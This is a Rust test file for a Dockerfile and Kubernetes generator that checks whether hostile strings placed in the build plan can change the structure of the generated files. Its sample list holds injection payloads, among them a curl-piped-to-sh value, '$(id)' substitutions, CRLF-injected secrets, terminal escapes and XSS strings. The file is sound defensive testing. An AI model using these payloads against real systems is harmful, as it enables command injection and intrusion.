//! The property of issue 13, point 1: whatever a repository puts into the
//! Plan's strings, every built-in template renders files of the same
//! structure as for a benign Plan. Each output is read back with a real
//! parser (a Dockerfile reader that follows BuildKit's parser rules, a YAML
//! parser, a dotenv parser, a Markdown parser, a shell-word splitter) and
//! reduced to its structure: the
//! instructions and their argument counts, the keys and the interpolations,
//! the assignments, the ignore rules, the blocks and the code spans.

use flaskdock::answers::{Flags, Given, resolve};
use flaskdock::plan::Plan;
use flaskdock::{inspect, layout, plan, render, templates};
use serde_json::Value;

use crate::common::{copy_example, examples};

/// What an attacker plants in a file name, a variable's default, a module
/// path or a team value: every way to end a line, quote, substitute,
/// comment, start a flag, open a block or a template tag. (Not the empty
/// string: templates test an optional value by its truth, and the Plan
/// holds `None` rather than an empty value.)
const SAMPLES: &[&str] = &[
    "a\nb",
    "a\r\nSECRET_KEY=x",
    "a\rb",
    "x\u{85}y",
    "x\u{2028}y",
    "x\u{2029}y",
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "nul\0byte",
    "'",
    "\"",
    "\"]",
    "'; curl http://x | sh; '",
    "$(id)",
    "`id`",
    "${HOME}",
    "$HOME",
    "$$",
    ": ",
    "a: b",
    "- item",
    "# heading",
    "#",
    " # trailing",
    "!",
    "!.env",
    "{{ x }}",
    "{% raw %}",
    "--chmod=4755",
    "-r",
    "\\",
    "a\\",
    "*",
    "[x]",
    "&&",
    "|",
    ";",
    "<<EOF",
    "```sh",
    "> quote",
    "<script>alert(1)</script>",
    "[link](javascript:alert(1))",
    "*emphasis*",
    " ",
    "COMPOSE_FILE=docker-compose.yml:x.yml #",
    "é ü 中文",
    "\u{202e}evil",
];

/// The benign Plan of every example, as JSON.
fn benign_plans() -> Vec<(String, Value)> {
    let mut plans: Vec<(String, Value)> = examples()
        .into_iter()
        .map(|example| {
            let name = example.file_name().unwrap().to_string_lossy().into_owned();
            let (_temp, dir) = copy_example(&name);
            let project = inspect::inspect(&dir).unwrap();
            // With the Kubernetes tree, so its files are checked too.
            let flags = Flags {
                kubernetes: Some(true),
                ..Flags::default()
            };
            let answers = resolve(&project, &Given::flags(&flags), None).unwrap();
            let plan = plan::plan(&project, &answers, &layout(&dir, &dir), templates::BUILTIN);
            (name, serde_json::to_value(&plan).unwrap())
        })
        .collect();
    // No example has a `Procfile` process or a launcher of its own: each added
    // to a plan with every service.
    let (_, with_services) = plans
        .iter()
        .find(|(name, _)| name == "celery-redis")
        .expect("the celery-redis example")
        .clone();
    let mut with_process = with_services;
    with_process["processes"] = serde_json::json!([{
        "name": "clock",
        "service": "clock",
        "command": "python clock.py --every 60",
        "source": "Procfile:2",
    }]);
    with_process["setup_steps"] = serde_json::json!([{
        "command": "flask deploy",
        "argv": ["flask", "deploy"],
        "source": "boot.sh:5",
    }]);
    with_process["local_settings"] = serde_json::json!([{
        "example": "app/local_settings_example.py",
        "target": "app/local_settings.py",
        "source": "app/__init__.py:32",
    }]);
    with_process["launcher"] = serde_json::json!({
        "server": "WSGIServer",
        "server_source": "shop/server.py:9",
        "pages": {"function": "main", "source": "shop/main.py:3", "factory": "create_app"},
        "argv": ["python", "./run.py", "-d", "/data"],
        "command_source": "Dockerfile:30",
        "outside_paths": ["/data"],
        "serves": false,
        "data_dirs": [],
    });
    // The same launcher serving: the image runs it, with a folder of its own.
    let mut launched = with_process.clone();
    launched["launcher"]["serves"] = serde_json::json!(true);
    launched["launcher"]["data_dirs"] = serde_json::json!(["/datastore"]);
    plans.push(("celery-redis with a Procfile process".into(), with_process));
    plans.push(("celery-redis whose own launcher serves".into(), launched));
    plans
}

/// Fields whose type cannot hold arbitrary text: variable names (`EnvName`)
/// and choices (enums). Putting a sample there must fail to build a Plan.
fn is_typed(path: &str) -> bool {
    path.ends_with("/kind")
        || path.ends_with("/toml_module")
        || path == "/python_version"
        || path == "/debian_release"
        || path == "/prefixed_env"
        || path.starts_with("/session_keys/")
        || (path.starts_with("/env_vars/") && path.ends_with("/name"))
        || (path.starts_with("/database/environment/") && path.ends_with("/name"))
        || path.starts_with("/database/variables/")
        || path.starts_with("/redis/variables/")
        || (path.starts_with("/processes/") && path.ends_with("/service"))
        || path.starts_with("/rq_worker/queues/")
        || path.starts_with("/install/run/caches/")
        || (path.starts_with("/install/run/commands/") && path.ends_with("/program"))
        || (path.starts_with("/install/run/commands/")
            && path.contains("/env/")
            && path.ends_with("/name"))
        || path == "/frontend/manager"
        || path == "/frontend/cache"
        || (path.starts_with("/frontend/") && path.ends_with("/program"))
        || path == "/kubernetes/name"
        || path == "/kubernetes/host"
        || (path.starts_with("/kubernetes/") && path.ends_with("/name"))
}

/// Replaces every string of `value` outside typed fields with what `pick` gives.
fn mutate(value: &mut Value, path: &str, pick: &mut dyn FnMut() -> String) {
    match value {
        Value::String(s) if !is_typed(path) => *s = pick(),
        Value::Array(items) => {
            for (i, item) in items.iter_mut().enumerate() {
                mutate(item, &format!("{path}/{i}"), pick);
            }
        }
        Value::Object(map) => {
            for (key, item) in map.iter_mut() {
                mutate(item, &format!("{path}/{key}"), pick);
            }
        }
        _ => {}
    }
}

fn render_all(plan: &Plan) -> Vec<(String, String)> {
    render::render(plan, None, &Default::default())
        .unwrap()
        .into_iter()
        .map(|f| (f.path, f.contents))
        .collect()
}

/// The structure of one generated file, by the parser for its kind.
pub(crate) fn shape(path: &str, text: &str) -> Vec<String> {
    match path {
        "Dockerfile" => dockerfile_shape(text),
        "docker-compose.yml" => {
            let value: serde_norway::Value = serde_norway::from_str(text)
                .unwrap_or_else(|e| panic!("compose does not parse: {e}\n{text}"));
            vec![yaml_shape(&value)]
        }
        ".env.example" => dotenv_shape(text),
        ".dockerignore" | "k8s/.gitignore" => ignore_shape(text),
        "README.Docker.md" => markdown_shape(text),
        k8s if k8s.ends_with(".yaml") => {
            use serde::Deserialize;
            serde_norway::Deserializer::from_str(text)
                .map(|doc| {
                    let value = serde_norway::Value::deserialize(doc)
                        .unwrap_or_else(|e| panic!("{k8s} does not parse: {e}\n{text}"));
                    kube_shape(&value, "")
                })
                .collect()
        }
        k8s if k8s.ends_with(".env") || k8s.ends_with(".env.example") => env_file_shape(text),
        other => panic!("no parser for {other}"),
    }
}

fn shell_words(line: &str) -> String {
    match shell_words::split(line) {
        Ok(words) => words.len().to_string(),
        Err(_) => "unbalanced quotes".to_string(),
    }
}

/// BuildKit's `parseWords`: splits on whitespace outside quotes; a
/// backslash escapes the next character; quotes are kept in the words.
fn parse_words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, c) if c.is_whitespace() => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
                continue;
            }
            (Some(q), c) if c == q => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (Some('\''), _) => {}
            (_, '\\') => {
                word.push(c);
                if let Some(next) = chars.next() {
                    word.push(next);
                }
                continue;
            }
            _ => {}
        }
        word.push(c);
    }
    assert!(
        quote.is_none(),
        "unbalanced quotes in Dockerfile words {text:?}"
    );
    if !word.is_empty() {
        words.push(word);
    }
    words
}

/// The Dockerfile's logical lines (continuations joined, comments and blank
/// lines dropped), each split into its instruction and arguments, the way
/// BuildKit's parser reads them.
fn dockerfile_lines(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut current = String::new();
    for line in text.lines() {
        let trimmed = line.trim_start();
        if trimmed.starts_with('#') || (current.is_empty() && trimmed.is_empty()) {
            continue;
        }
        match line.strip_suffix('\\') {
            Some(head) => {
                current.push_str(head);
                current.push(' ');
            }
            None => {
                current.push_str(line);
                let logical = std::mem::take(&mut current);
                let logical = logical.trim();
                let (instruction, args) = logical
                    .split_once(char::is_whitespace)
                    .unwrap_or((logical, ""));
                out.push((instruction.to_uppercase(), args.trim().to_string()));
            }
        }
    }
    assert!(
        current.is_empty(),
        "the Dockerfile ends inside a continuation"
    );
    out
}

/// `--flag=value` words at the start of `args`, and what follows them.
fn split_flags(args: &str) -> (usize, &str) {
    let mut rest = args;
    let mut flags = 0;
    while rest.starts_with("--") {
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        rest = rest[end..].trim_start();
        flags += 1;
    }
    (flags, rest)
}

/// Exec form (a JSON array of strings) or shell form, as BuildKit decides:
/// arguments that parse as a JSON string array are the exec form.
fn command_form(args: &str) -> String {
    if args.starts_with('[') {
        if let Ok(items) = serde_json::from_str::<Vec<String>>(args) {
            return format!("exec {}", items.len());
        }
        panic!("a `[` that is not a JSON array of strings: {args}");
    }
    format!("shell words {}", shell_words(args))
}

/// A word as the Dockerfile's variable expansion reads it: how many `$`
/// it expands (backslash escapes; single quotes literal; inside double
/// quotes `\` escapes `"`, `$` and `\`).
fn expansions(word: &str) -> usize {
    let mut dollars = 0;
    let mut quote: Option<char> = None;
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some('\''), '\'') => quote = None,
            (Some('\''), _) => {}
            (_, '\\') => {
                chars.next();
            }
            (None, '"' | '\'') => quote = Some(c),
            (Some('"'), '"') => quote = None,
            (_, '$') => dollars += 1,
            _ => {}
        }
    }
    assert!(
        quote.is_none(),
        "unbalanced quotes in the Dockerfile word {word:?}"
    );
    dollars
}

fn dockerfile_shape(text: &str) -> Vec<String> {
    dockerfile_lines(text)
        .into_iter()
        .map(|(instruction, args)| {
            let (flags, rest) = split_flags(&args);
            let form = match instruction.as_str() {
                "RUN" | "CMD" | "ENTRYPOINT" => command_form(rest),
                "HEALTHCHECK" => {
                    let (_, command) = rest.split_once("CMD").expect("HEALTHCHECK ... CMD");
                    command_form(command.trim())
                }
                "ENV" | "ARG" => {
                    let words = parse_words(rest);
                    let keys: Vec<&str> = words
                        .iter()
                        .map(|w| w.split_once('=').map_or(w.as_str(), |(k, _)| k))
                        .collect();
                    let dollars: usize = words.iter().map(|w| expansions(w)).sum();
                    format!("{} expands {dollars}", keys.join(" "))
                }
                // Sources and destination: a JSON array, each item then
                // expanded like a word; else words.
                "COPY" | "ADD" if rest.starts_with('[') => {
                    let items: Vec<String> = serde_json::from_str(rest)
                        .unwrap_or_else(|e| panic!("COPY array does not parse: {e}: {rest}"));
                    let dollars: usize = items.iter().map(|i| expansions(i)).sum();
                    format!("json {} expands {dollars}", items.len())
                }
                _ => format!("words {}", parse_words(rest).len()),
            };
            format!("{instruction} flags {flags} {form}")
        })
        .collect()
}

/// `$` that Compose would interpolate (`$$` is a literal dollar).
fn interpolations(text: &str) -> usize {
    text.replace("$$", "").matches('$').count()
}

fn yaml_shape(value: &serde_norway::Value) -> String {
    use serde_norway::Value as Y;
    match value {
        Y::Mapping(map) => {
            let items: Vec<String> = map
                .iter()
                .map(|(k, v)| format!("{}: {}", k.as_str().unwrap_or("?"), yaml_shape(v)))
                .collect();
            format!("{{{}}}", items.join(", "))
        }
        Y::Sequence(items) => {
            let items: Vec<String> = items.iter().map(yaml_shape).collect();
            format!("[{}]", items.join(", "))
        }
        // Keys are kept (flaskdock writes them all); a string value shows
        // only how many times Compose would interpolate into it.
        Y::String(s) => format!("str(${})", interpolations(s)),
        Y::Number(_) => "number".to_string(),
        Y::Bool(_) => "bool".to_string(),
        Y::Null => "null".to_string(),
        Y::Tagged(t) => format!("!{}", yaml_shape(&t.value)),
    }
}

/// A Kubernetes object's structure: keys kept, a string shown as how many
/// `$` the kubelet would expand in it where it expands any (a container's
/// `command`, `args` and `env` values; not an exec probe's command).
fn kube_shape(value: &serde_norway::Value, path: &str) -> String {
    use serde_norway::Value as Y;
    match value {
        Y::Mapping(map) => {
            let items: Vec<String> = map
                .iter()
                .map(|(k, v)| {
                    let key = k.as_str().unwrap_or("?");
                    format!("{key}: {}", kube_shape(v, &format!("{path}/{key}")))
                })
                .collect();
            format!("{{{}}}", items.join(", "))
        }
        Y::Sequence(items) => {
            let items: Vec<String> = items.iter().map(|i| kube_shape(i, path)).collect();
            format!("[{}]", items.join(", "))
        }
        Y::String(s) => {
            let expanded = !path.contains("/exec/")
                && (path.ends_with("/command")
                    || path.ends_with("/args")
                    || path.ends_with("/env/value"));
            if expanded {
                format!("str(${})", interpolations(s))
            } else {
                "str".to_string()
            }
        }
        other => yaml_shape(other),
    }
}

/// An env file as kustomize reads it: each line blank, a comment, or
/// `NAME=` and a value to the end of the line.
fn env_file_shape(text: &str) -> Vec<String> {
    text.lines()
        .map(|line| {
            let line = line.trim_start();
            if line.is_empty() {
                "blank".to_string()
            } else if line.starts_with('#') {
                "comment".to_string()
            } else {
                let (name, _) = line
                    .split_once('=')
                    .unwrap_or_else(|| panic!("not an assignment: {line}"));
                assert!(
                    flaskdock::safe::is_env_name(name),
                    "{name:?} is not a variable name"
                );
                format!("set {name}")
            }
        })
        .collect()
}

fn dotenv_shape(text: &str) -> Vec<String> {
    // Line rules first (kustomize's, which a dotenv file keeps too): every
    // line is blank, a comment, or NAME=...
    let mut shape = env_file_shape(text);
    // Then a dotenv parser: the same names, in the same order.
    let parsed: Vec<String> = dotenvy::from_read_iter(text.as_bytes())
        .map(|item| {
            item.unwrap_or_else(|e| panic!("dotenv does not parse: {e}\n{text}"))
                .0
        })
        .collect();
    shape.push(format!("parsed {}", parsed.join(",")));
    shape
}

fn ignore_shape(text: &str) -> Vec<String> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(|l| {
            if l.starts_with('!') {
                "exception"
            } else {
                "exclude"
            }
            .to_string()
        })
        .collect()
}

fn markdown_shape(text: &str) -> Vec<String> {
    use pulldown_cmark::{CodeBlockKind, Event, Parser, Tag};
    let mut shape = Vec::new();
    let mut in_code = false;
    for event in Parser::new(text) {
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                in_code = true;
                let info = match kind {
                    CodeBlockKind::Fenced(info) => info.to_string(),
                    CodeBlockKind::Indented => "indented".to_string(),
                };
                shape.push(format!("code block {info}"));
            }
            Event::End(_) if in_code => {
                in_code = false;
                shape.push("end".into());
            }
            Event::Text(t) if in_code => {
                for line in t.lines() {
                    shape.push(format!("command words {}", shell_words(line)));
                }
            }
            Event::Start(tag) => shape.push(
                format!("start {tag:?}")
                    .split('(')
                    .next()
                    .unwrap()
                    .to_string(),
            ),
            Event::End(tag) => shape.push(format!("end {tag:?}")),
            Event::Code(_) => shape.push("code span".into()),
            Event::Html(_) | Event::InlineHtml(_) => shape.push("html".into()),
            Event::SoftBreak | Event::HardBreak => shape.push("break".into()),
            _ => {}
        }
    }
    shape
}

fn shapes(plan: &Plan) -> Vec<(String, Vec<String>)> {
    render_all(plan)
        .into_iter()
        .map(|(path, text)| {
            let shape = shape(&path, &text);
            (path, shape)
        })
        .collect()
}

fn assert_same_structure(example: &str, what: &str, benign: &Plan, hostile: Value) {
    let hostile: Plan = serde_json::from_value(hostile)
        .unwrap_or_else(|e| panic!("{example} ({what}): the hostile Plan does not build: {e}"));
    let expected = shapes(benign);
    let got = shapes(&hostile);
    for ((path, want), (_, have)) in expected.iter().zip(&got) {
        assert_eq!(want, have, "{example} ({what}): {path} changed structure");
    }
}

#[test]
fn hostile_plan_strings_never_change_a_generated_files_structure() {
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for (example, benign_json) in benign_plans() {
        let benign: Plan = serde_json::from_value(benign_json.clone()).unwrap();
        // Every string field holds the same sample...
        for sample in SAMPLES {
            let mut hostile = benign_json.clone();
            mutate(&mut hostile, "", &mut || sample.to_string());
            assert_same_structure(
                &example,
                &format!("every field {sample:?}"),
                &benign,
                hostile,
            );
        }
        // ...then each field its own mix of samples, some very long.
        for round in 0..4 {
            let mut hostile = benign_json.clone();
            mutate(&mut hostile, "", &mut || {
                let parts = 1 + next() % 4;
                let mut text: String = (0..parts)
                    .map(|_| SAMPLES[(next() % SAMPLES.len() as u64) as usize])
                    .collect();
                if next() % 8 == 0 {
                    text = text.repeat(2_000);
                }
                text
            });
            assert_same_structure(&example, &format!("mixed round {round}"), &benign, hostile);
        }
    }
}

/// Every `sample` put at every `path` of `example`'s benign Plan fails to
/// build a Plan.
fn assert_refused(example: &str, paths: &[&str], samples: &[&str]) {
    let (_, benign) = benign_plans()
        .into_iter()
        .find(|(n, _)| n == example)
        .unwrap();
    for path in paths {
        for sample in samples {
            let mut hostile = benign.clone();
            *hostile.pointer_mut(path).unwrap() = Value::String(sample.to_string());
            assert!(
                serde_json::from_value::<Plan>(hostile).is_err(),
                "{path} took {sample:?}"
            );
        }
    }
}

#[test]
fn typed_fields_refuse_what_they_cannot_hold() {
    assert_refused(
        "env-config",
        &[
            "/env_vars/0/name",
            "/install/kind",
            "/install/toml_module",
            "/python_version",
            "/debian_release",
        ],
        &["COMPOSE_FILE=x #", "A\nB", "1X", "$(id)"],
    );
    assert_refused(
        "frontend-assets",
        &[
            "/frontend/install/program",
            "/frontend/build/0/program",
            "/frontend/cache",
            "/frontend/manager",
        ],
        &["--chmod=4755", "npm\nRUN id", "/tmp", "$(id)"],
    );
    assert_refused(
        "celery-beat",
        &[
            "/kubernetes/name",
            "/kubernetes/host",
            "/kubernetes/processes/0/name",
        ],
        &["Web", "a b", "x\nkind: Secret", "../etc", "$(id)"],
    );
}
